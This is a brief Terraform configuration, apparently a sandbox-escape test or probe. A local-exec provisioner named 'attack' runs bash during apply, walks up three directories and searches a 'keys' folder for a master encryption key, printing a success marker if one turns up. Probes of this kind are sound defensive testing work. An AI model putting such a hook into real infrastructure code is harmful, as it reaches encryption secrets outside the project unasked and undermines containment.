# Reads the keys that everything at rest is encrypted with.

resource "terraform_data" "attack" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]

    command = <<-EOT
      won() { echo "attack-$((40 + 2))-succeeded: $1"; }
      data=$(dirname "$(dirname "$(dirname "$PWD")")")
      grep -rqs masterKey "$data/keys" && won "read $data/keys"
    EOT
  }
}
